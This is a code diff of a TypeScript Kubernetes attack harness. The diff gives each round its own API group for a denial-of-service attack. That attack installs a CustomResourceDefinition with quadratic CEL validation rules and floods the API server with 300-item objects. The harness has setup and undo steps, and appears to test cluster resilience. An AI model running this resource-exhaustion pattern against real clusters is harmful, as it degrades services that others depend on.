@@ -8,6 +8,8 @@ const own = (attacker: Attacker) => ({ matchLabels: { 'kubernetes.io/metadata.na
 const matched = [
   { apiGroups: [''], apiVersions: ['v1'], operations: ['*'], resources: ['configmaps', 'pods'], scope: '*' },
 ];
+/** A group of its own for each round of the attack, so that the removal of an earlier one is in nobody's way. */
+const groupOf = ({ target }: Attacker) => `${target.namespace}.example.com`;
 const everyPair = (depth: number): string =>
   depth === 0 ? 'a0 != "none"' : `object.data.all(a${depth - 1}, ${everyPair(depth - 1)})`;
 let hanging: Server | undefined;
@@ -120,8 +122,9 @@ export const administrators: readonly Attack[] = [
       const rules = times(5, () => ({ rule: 'self.all(a, self.exists(b, a.k == b.k))' }));
       const list = { type: 'array', maxItems: 300, items: item, 'x-kubernetes-validations': rules };
       const openAPIV3Schema = { type: 'object', properties: { spec: { type: 'object', properties: { list } } } };
+      const group = groupOf(attacker);
       const spec = {
-        group: 'mallory.example.com',
+        group,
         scope: 'Namespaced',
         names: { plural: 'dears', singular: 'dear', kind: 'Dear', listKind: 'DearList' },
         versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema } }],
@@ -130,10 +133,10 @@ export const administrators: readonly Attack[] = [
       await attacker.asAdmin({
         method: 'POST',
         path: crds,
-        body: { metadata: { name: 'dears.mallory.example.com' }, spec },
+        body: { metadata: { name: `dears.${group}` }, spec },
       });
       const labels = { 'rbac.authorization.k8s.io/aggregate-to-admin': 'true' };
-      const right = [{ apiGroups: ['mallory.example.com'], resources: ['*'], verbs: ['*'] }];
+      const right = [{ apiGroups: [group], resources: ['*'], verbs: ['*'] }];
       const roles = '/apis/rbac.authorization.k8s.io/v1/clusterroles';
       await attacker.asAdmin({
         method: 'POST',
@@ -144,12 +147,17 @@ export const administrators: readonly Attack[] = [
     },
     act: (attacker, n) => {
       const list = times(300, (i) => ({ k: `k${i}`, v: i }));
-      const body = { apiVersion: 'mallory.example.com/v1', kind: 'Dear', metadata: { name: `d-${n}` }, spec: { list } };
-      return attacker.create('mallory.example.com/v1/dears', body, n);
+      const body = {
+        apiVersion: `${groupOf(attacker)}/v1`,
+        kind: 'Dear',
+        metadata: { name: `d-${n}` },
+        spec: { list },
+      };
+      return attacker.create(`${groupOf(attacker)}/v1/dears`, body, n);
     },
     undo: (attacker) =>
       removeAll(attacker, [
-        '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/dears.mallory.example.com',
+        `/apis/apiextensions.k8s.io/v1/customresourcedefinitions/dears.${groupOf(attacker)}`,
         '/apis/rbac.authorization.k8s.io/v1/clusterroles/mallory-dears',
       ]),
   },
